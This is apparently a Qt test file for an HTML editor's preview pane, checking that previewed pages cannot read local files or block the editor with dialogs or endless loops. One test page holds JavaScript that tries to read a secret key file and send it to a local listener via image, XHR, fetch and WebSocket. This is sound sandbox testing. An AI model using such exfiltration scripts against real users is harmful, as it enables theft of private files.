// What a previewed page may and may not do: it shows as a local file shows in
// a browser, with its own stylesheets, scripts and images (also those beside
// the document the text came from), but its scripts read none of the user's
// files, and its dialogs and leave questions never stop the editor.

#include "dialogs/openfile.h"
#include "editor/textedit.h"
#include "platform/controls.h"
#include "platform/folderlist.h"
#include "platform/seqfile.h"
#include "platform/textbox.h"
#include "platform/webview.h"
#include "support/recorder.h"
#include "support/testfiles.h"
#include "support/webpage.h"

#include <QImage>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QtTest>

namespace {

// Takes every connection on 127.0.0.1, keeps what arrives and answers each
// with an empty page. It ends with the test.
class Listener : public QTcpServer {
public:
    Listener() {
        listen(QHostAddress::LocalHost);
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* s = nextPendingConnection()) {
                connect(s, &QTcpSocket::readyRead, s, [this, s] {
                    received += s->readAll();
                    s->write("HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n");
                    s->disconnectFromHost();
                });
                connect(s, &QTcpSocket::disconnected, s, &QObject::deleteLater);
            }
        });
    }
    QByteArray received;
};

void press(textedit& w, Qt::Key key) {
    w.activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(&w));
    QTest::keyClick(w.Text1, key, Qt::ControlModifier);
}

} // namespace

class PageSafetyTest : public QObject {
    Q_OBJECT
    QTemporaryDir dir;
    Recorder* rec = nullptr;

    QString at(const QString& name) const { return dir.filePath(name); }

    // Opens the page through the Open dialog and shows it in the split pane.
    void openAndSplit(const QString& file) {
        openfile& d = openfile::instance();
        d.Dir1->setPath(QFileInfo(file).absolutePath());
        d.Text1->setText(QFileInfo(file).fileName());
        d.Command1->click();
        QVERIFY(rec->boxes.empty());
        press(textedit::instance(), Qt::Key_S);
    }

    bool typingReachesTheText(textedit& w) {
        w.activateWindow();
        if (!QTest::qWaitForWindowActive(&w))
            return false;
        w.Text1->setFocus();
        const QString before = w.Text1->Text();
        QTest::keyClicks(w.Text1, QStringLiteral("typed"));
        return w.Text1->Text().size() == before.size() + 5;
    }

private slots:
    void initTestCase() {
        QVERIFY(dir.isValid());
        for (const char* sub : {"start", "site", "private"})
            QVERIFY(QDir(dir.path()).mkdir(QString::fromLatin1(sub)));
        QVERIFY(QDir::setCurrent(at("start")));
        QImage pic(8, 8, QImage::Format_RGB32);
        pic.fill(Qt::red);
        QVERIFY(pic.save(at("site/pic.png")) && pic.save(at("private/pic.png")));
        QVERIFY(writeAll(at("site/style.css"), "p { color: rgb(1, 2, 3); }"));
        QVERIFY(writeAll(at("site/app.js"), "document.documentElement.dataset.ran = 'app.js';"));
        QVERIFY(writeAll(at("private/key.txt"), "SECRET-KEY-1234"));
    }
    void init() { rec = new Recorder; }
    void cleanup() {
        unloadAllWindows();
        delete rec;
    }

    // First, while no web view exists: the view reads a page without a
    // declared character set in the code page the preview file was written in.
    void aPageIsReadInTheCodePageOfTheFile() {
        QVERIFY(pw::setCodePage("ISO-8859-15"));
        textedit& w = textedit::instance();
        w.Text1->setText(QString::fromUtf8("<p>caf\u00e9 \u20ac</p>"));
        press(w, Qt::Key_S);
        pw::setCodePage({});
        QCOMPARE(readAll(at("start/view.html")), QByteArray("<p>caf\xe9 \xa4</p>\r\n"));
        QTRY_COMPARE_WITH_TIMEOUT(pageText(w.WebBrowser1), QString::fromUtf8("caf\u00e9 \u20ac"),
                                  PageLoadTimeout);
    }

    void aPageShowsItselfButReadsNoLocalFile() {
        Listener listener;
        QVERIFY(listener.isListening());
        const QString secret = QUrl::fromLocalFile(at("private/key.txt")).toString();
        const QString secretFolder = QUrl::fromLocalFile(at("private")).toString() + '/';
        const QString farPic = QUrl::fromLocalFile(at("private/pic.png")).toString();
        QString page = QStringLiteral(R"(<html><head><link rel="stylesheet" href="style.css">
<script src="app.js"></script></head><body><p id="p">styled</p>
<img id="own" src="pic.png"><img id="far" src="FARPIC">
<iframe id="fr" src="SECRET"></iframe><iframe id="own-frame" src="style.css"></iframe>
<script>
var got = [];
function read(u) {
  try { var x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); got.push(x.responseText); }
  catch (e) { got.push('refused'); }
}
read('SECRET'); read('FOLDER'); read('style.css');
function send(tag, data) {
  var to = 'http://127.0.0.1:PORT/' + tag + '?' + encodeURIComponent(data);
  new Image().src = to + '&img';
  var x = new XMLHttpRequest(); x.open('POST', to + '&xhr'); x.send(data);
  fetch(to + '&fetch', {method: 'POST', body: data, mode: 'no-cors'}).catch(function () {});
  try { new WebSocket('ws://127.0.0.1:PORT/ws?' + encodeURIComponent(data)); } catch (e) {}
}
fetch('SECRET').then(function (r) { return r.text(); })
  .then(function (t) { send('fetched', t); }, function () { send('fetched', 'refused'); });
window.onload = function () {
  try { got.push(document.getElementById('fr').contentDocument.body.innerText); }
  catch (e) { got.push('frame refused'); }
  try { got.push(document.getElementById('own-frame').contentDocument.body.innerText); }
  catch (e) { got.push('own frame refused'); }
  document.documentElement.dataset.got = got.join('|');
  send('all', got.join('|'));
};
</script></body></html>)");
        page.replace(QStringLiteral("SECRET"), secret)
            .replace(QStringLiteral("FOLDER"), secretFolder)
            .replace(QStringLiteral("FARPIC"), farPic)
            .replace(QStringLiteral("PORT"), QString::number(listener.serverPort()));
        QVERIFY(writeAll(at("site/page.html"), page.toUtf8()));

        openAndSplit(at("site/page.html"));
        textedit& w = textedit::instance();
        // The page's way out works (the engine lets a local page open a web
        // socket to this machine): what it tried to send arrives, empty-handed.
        QTRY_VERIFY_WITH_TIMEOUT(listener.received.contains("GET /ws?refused%7C"), PageLoadTimeout);
        QTest::qWait(500);
        QVERIFY2(!listener.received.contains("SECRET"), listener.received.constData());
        // (The page's own variables are out of a test script's reach; it
        // leaves its findings in the document.)
        const QString got =
            evaluate(w.WebBrowser1, QStringLiteral("document.documentElement.dataset.got"))
                ->toString();
        QVERIFY2(!got.contains(QStringLiteral("SECRET")) &&
                     !got.contains(QStringLiteral("key.txt")) &&
                     !got.contains(QStringLiteral("color")),
                 qPrintable(got));

        // Its own files, found beside the document, load; others do not.
        QCOMPARE(evaluate(w.WebBrowser1, QStringLiteral("document.documentElement.dataset.ran"))
                     ->toString(),
                 QStringLiteral("app.js"));
        QCOMPARE(evaluate(w.WebBrowser1,
                          QStringLiteral("getComputedStyle(document.getElementById('p')).color"))
                     ->toString(),
                 QStringLiteral("rgb(1, 2, 3)"));
        QCOMPARE(
            evaluate(w.WebBrowser1, QStringLiteral("document.getElementById('own').naturalWidth"))
                ->toInt(),
            8);
        QCOMPARE(
            evaluate(w.WebBrowser1, QStringLiteral("document.getElementById('far').naturalWidth"))
                ->toInt(),
            0);
    }

    void aPageDialogsAndLoopsNeverHoldTheEditor() {
        textedit& w = textedit::instance();
        const QString pages[] = {
            QStringLiteral("<script>for (var i = 0; i < 40; ++i) alert('again ' + i);"
                           "document.title = 'after';</script><p>alerts</p>"),
            QStringLiteral("<script>window.answer = String(confirm('sure?')) + ' ' + "
                           "String(prompt('name?', 'x'));</script><p>questions</p>"),
            QStringLiteral("<script>window.onbeforeunload = function (e) { e.preventDefault();"
                           " e.returnValue = 'stay'; return 'stay'; };"
                           "addEventListener('beforeunload', function (e) { e.preventDefault(); });"
                           "</script><p>stay</p>"),
        };
        for (const QString& page : pages) {
            w.Text1->setText(page);
            press(w, Qt::Key_S);
            QTRY_VERIFY_WITH_TIMEOUT(!pageText(w.WebBrowser1).value_or(QString()).isEmpty(),
                                     PageLoadTimeout);
            // Give the page's handlers a user gesture to act on.
            QTest::mouseClick(w.WebBrowser1->focusProxy(), Qt::LeftButton);
            QVERIFY(QApplication::activeModalWidget() == nullptr);
            QVERIFY(typingReachesTheText(w));
            w.Text1->setText(QStringLiteral("<p>next</p>"));
            press(w, Qt::Key_R);
            QTRY_COMPARE_WITH_TIMEOUT(pageText(w.WebBrowser1), QStringLiteral("next"),
                                      PageLoadTimeout);
        }

        // A page whose script never ends: the editor goes on.
        w.Text1->setText(QStringLiteral("<p>busy</p><script>setTimeout(function () {"
                                        " for (;;) {} }, 200);</script>"));
        press(w, Qt::Key_S);
        QTRY_COMPARE_WITH_TIMEOUT(pageText(w.WebBrowser1), QStringLiteral("busy"), PageLoadTimeout);
        QTest::qWait(500);
        QVERIFY(typingReachesTheText(w));
        w.Text1->setText(QStringLiteral("<p>free</p>"));
        press(w, Qt::Key_R);
        QTRY_COMPARE_WITH_TIMEOUT(pageText(w.WebBrowser1), QStringLiteral("free"), PageLoadTimeout);
        QVERIFY(rec->boxes.empty());
    }
};

QTEST_MAIN(PageSafetyTest)
#include "tst_pagesafety.moc"
